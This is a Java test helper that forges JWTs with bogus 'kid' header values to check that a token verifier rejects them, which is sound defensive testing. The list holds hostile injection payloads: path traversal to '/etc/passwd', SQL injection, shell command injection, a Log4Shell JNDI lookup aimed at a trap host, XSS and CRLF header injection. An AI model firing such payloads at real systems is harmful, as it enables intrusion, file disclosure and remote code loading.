package no.altinn.testing.forgery;

import no.altinn.testing.json.Json;

import java.net.URI;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;

/** Key ids that are none of the published ones, over right signatures (RFC 8725 §3.10). */
final class KeyIds {
    private KeyIds() {}

    static List<Forgery> of(Genuine genuine, URI trap) {
        String kid = genuine.keys().kid();
        return Stream.of(
                        "unknown",
                        kid.toLowerCase(Locale.ROOT),
                        kid.substring(1),
                        kid + "0",
                        kid + " ",
                        " " + kid,
                        kid + "\n",
                        kid + "\u0000",
                        kid + "/../" + kid,
                        "*",
                        "%",
                        ".",
                        "../../../../etc/passwd",
                        "..\\..\\windows\\win.ini",
                        "/dev/null",
                        "file:///dev/null",
                        "' OR '1'='1",
                        "x' UNION SELECT 'key';--",
                        "| sleep 10",
                        "$(sleep 10)",
                        "${jndi:ldap://" + trap.getAuthority() + "/x}",
                        trap.toString(),
                        "<script>alert(1)</script>",
                        "\r\nSet-Cookie: a=b",
                        "null",
                        "0",
                        "K".repeat(256))
                .map(
                        id ->
                                new Forgery(
                                        "kid " + brief(id),
                                        "RFC 8725 §3.10",
                                        genuine.header(header -> header.put("kid", id))))
                .toList();
    }

    private static String brief(String id) {
        return id.length() < 100 ? Json.string(id) : "of " + id.length() + " characters";
    }
}
